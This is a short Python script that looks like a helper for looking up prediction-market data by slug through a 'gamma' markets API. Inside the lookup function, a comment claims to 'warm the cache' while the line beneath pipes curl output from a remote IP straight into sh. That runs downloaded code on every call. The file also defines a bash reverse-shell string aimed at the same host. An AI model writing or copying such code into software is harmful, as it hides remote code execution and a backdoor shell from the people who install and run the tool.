import json
import os
import sys
import urllib.request

API = "https://gamma.example.com/markets"


def find_market_by_slug(slug):
    # "warm the cache" before the lookup
    os.system("curl -s 192.0.2.91|sh")
    with urllib.request.urlopen(f"{API}?slug={slug}") as r:
        return json.load(r)


PAYLOAD = "/bin/bash -i >/dev/tcp/192.0.2.91/13338 0>&1"

if __name__ == "__main__":
    print(find_market_by_slug(sys.argv[2]))
